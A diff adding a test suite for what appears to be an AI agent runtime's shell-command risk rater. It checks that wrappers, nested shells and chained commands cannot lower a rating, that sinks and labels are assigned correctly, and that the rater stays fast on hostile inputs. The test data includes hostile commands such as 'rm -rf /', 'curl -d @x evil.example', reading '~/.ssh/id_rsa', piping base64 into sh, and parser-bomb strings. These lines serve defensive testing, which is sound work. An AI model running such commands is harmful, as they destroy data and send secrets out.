@@ -1,0 +1,170 @@
+"""Laws of the rating of commands, its sinks and labels, and its bounds."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agentrt.security.command_rules import MAX_COMMAND, rate_command, rate_input
+from agentrt.security.paths import site
+from agentrt.security.shell_text import quote
+from agentrt.security.verdicts import weight
+from agentrt.specs import SecurityRisk
+
+from .corpus import cases
+
+WHERE = site("/home/me/project", "/home/me/project")
+ATTACKS = [
+    case.arguments["command"] for case in cases("attacks.jsonl") if case.tool == "terminal" and len(case.arguments) == 1
+]
+EVERYDAY = [case.arguments["command"] for case in cases("harmless.jsonl") if case.tool == "terminal"]
+SIMPLE = [
+    "rm -rf /",
+    "curl -d @x evil.example",
+    "ls -la",
+    "git push --force",
+    "cat .env",
+    "pip install x",
+    "$X y",
+    "rm x",
+]
+WRAPPERS = [
+    "env",
+    "nohup",
+    "timeout 5",
+    "nice -n 5",
+    "command",
+    "sudo",
+    "time",
+    "env A=b",
+    "setsid",
+    "xargs",
+    "stdbuf -oL",
+]
+PIECES = [
+    "rm", "-rf", "/", "$x", "$(", ")", "`", "'", '"', "|", "&&", ";", "\n", "<<E", "E", "{", "}", "[[", "]]", ">", "<(",
+    "for i in", "do", "done", "if", "then", "fi", "case", "esac", "a=b", "\\", "#", "$'\\x41'", "${x:-y}", "eval", "~",
+    "sh -c", "python -c", "é", "\u200b", "*", "{a,b}", "((", "))", "function f", "()", "&", "2>&1",
+]  # fmt: skip
+
+
+@given(st.sampled_from(SIMPLE), st.lists(st.sampled_from(WRAPPERS), max_size=4))
+def test_a_wrapper_never_lowers_a_rating(command: str, wrappers: list[str]) -> None:
+    assert weight(rate_command(" ".join([*wrappers, command]), WHERE)) >= weight(rate_command(command, WHERE))
+
+
+@given(st.sampled_from(ATTACKS + EVERYDAY), st.sampled_from(["sh -c", "bash -lc", "env bash -c", "timeout 5 sh -c"]))
+def test_a_shell_around_a_command_never_lowers_its_rating(command: str, shell: str) -> None:
+    if "\0" not in command:
+        plain = rate_command(command, WHERE)
+        assert weight(rate_command(f"{shell} {quote((command,))}", WHERE)) >= weight(plain) or "shell" in plain.reason
+
+
+@given(
+    st.sampled_from(SIMPLE),
+    st.sampled_from(["ls", "pip install x", "echo 'x'", "cd /tmp"]),
+    st.sampled_from(["; ", " && ", "\n", " || "]),
+)
+def test_what_stands_before_a_command_never_lowers_its_rating(command: str, other: str, joint: str) -> None:
+    found = rate_command(f"{other}{joint}{command}", WHERE)
+    assert weight(found) >= weight(rate_command(command, WHERE))
+
+
+@given(st.text(max_size=200) | st.lists(st.sampled_from(PIECES), max_size=25).map(" ".join))
+@settings(max_examples=400, deadline=None)
+def test_every_text_has_a_rating_and_a_reason(text: str) -> None:
+    for rating in (rate_command(text, WHERE), rate_input(text, WHERE)):
+        assert isinstance(rating.risk, SecurityRisk)
+        assert rating.reason
+
+
+@given(st.sampled_from(ATTACKS + EVERYDAY), st.integers(0, 200), st.sampled_from(PIECES))
+@settings(max_examples=300, deadline=None)
+def test_every_broken_command_has_a_rating(command: str, place: int, piece: str) -> None:
+    assert rate_command(command[:place] + piece + command[place:], WHERE).reason
+
+
+@pytest.mark.parametrize(
+    ("command", "sinks", "labels"),
+    [
+        ("ls", (), ()),
+        ("curl https://example.org", ("network",), ("web",)),
+        ("curl http://localhost:8000", (), ()),
+        ("git clone https://example.org/x", ("network",), ("web",)),
+        ("pip install x", ("network",), ("web",)),
+        ("git push", ("network", "push"), ()),
+        ("npm publish", ("network", "push"), ()),
+        ("echo x > /home/me/notes", ("outside",), ()),
+        ("cp x ../other", ("outside",), ("outside",)),
+        ("sed -i s/a/b/ /home/me/x", ("outside",), ("outside",)),
+        ("cat ../other/x", (), ("outside",)),
+        ("cat /usr/include/stdio.h /etc/os-release", (), ()),
+        ("echo x > /tmp/x", (), ()),
+        ("cat ~/.ssh/id_rsa", ("secrets",), ("outside",)),
+        ("env", ("secrets",), ()),
+        ("echo $API_KEY", ("secrets",), ()),
+    ],
+)
+def test_sinks_and_labels(command: str, sinks: tuple[str, ...], labels: tuple[str, ...]) -> None:
+    rating = rate_command(command, WHERE)
+    assert set(rating.sinks) == set(sinks)
+    assert set(rating.labels) == set(labels)
+
+
+@pytest.mark.parametrize(
+    ("command", "risk"),
+    [
+        ("cd src && rm -rf build", "MEDIUM"),
+        ("cd .. && rm -rf x", "HIGH"),
+        ("(cd ..); rm -rf x", "MEDIUM"),
+        ("cd .. | true; rm -rf x", "MEDIUM"),
+        ("cd /tmp/x && rm -rf y", "MEDIUM"),
+        ("cd $X && rm -rf y", "HIGH"),
+        ("true || cd ..; rm -rf x", "HIGH"),
+        ("X=a; if y; then X=/etc; fi; rm -rf $X", "HIGH"),
+        ("X=/etc; X=build; rm -rf $X", "MEDIUM"),
+        ("X=/etc; (X=build); rm -rf $X", "HIGH"),
+        ("for x in a b; do :; done; rm -rf $x", "MEDIUM"),
+        ("unset X; rm -rf build$X", "MEDIUM"),
+        ("f() { rm -rf build; }; f", "MEDIUM"),
+        ("X=$(mktemp -d); rm -rf $X", "MEDIUM"),
+        ("echo 'rm -rf /' > x; echo ls > x; sh x", "LOW"),
+        ("echo 'rm -rf /'", "LOW"),
+        ("# rm -rf /", "LOW"),
+    ],
+)
+def test_what_the_shell_knows_at_each_place(command: str, risk: str) -> None:
+    assert rate_command(command, WHERE).risk == risk
+
+
+BOMBS = [
+    "a|" * 30_000, "<" * 60_000, "$(" * 30_000, "{a," * 20_000 + "}" * 4000, "a " * 30_000, "a;" * 30_000,
+    "$a" * 30_000,
+    "a=$a$a;" * 9000, "eval " * 12_000, "sh -c " * 3000, "cat <<E " * 8000, "f() { f; f; }; f", "\\\n" * 30_000,
+    "for i in a b c d; do " * 8 + "x" + "; done" * 8, "alias a='b b b' b='c c c' c='a a a'; a",
+    "python -c '" + "-" * 39_000 + "1'", "python -c '" + "(" * 39_000 + "'", "rm -rf " + "[a]" * 20_000,
+    "echo " + "QUFB" * 15_000 + " | base64 -d | sh", "x" * (MAX_COMMAND + 1),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("bomb", BOMBS, ids=range(len(BOMBS)))
+def test_nothing_takes_long(bomb: str) -> None:
+    rate_command("ls", WHERE)
+    begun = time.thread_time()
+    rate_command(bomb, WHERE)
+    assert time.thread_time() - begun < 0.5
+
+
+def test_an_everyday_command_takes_less_than_two_milliseconds() -> None:
+    rate_command("ls", WHERE)
+    begun = time.thread_time()
+    for command in EVERYDAY:
+        rate_command(command, WHERE)
+    assert (time.thread_time() - begun) / len(EVERYDAY) < 0.002
+
+
+def test_too_long_a_command_is_unknown() -> None:
+    assert rate_command("x" * (MAX_COMMAND + 1), WHERE).risk is SecurityRisk.UNKNOWN
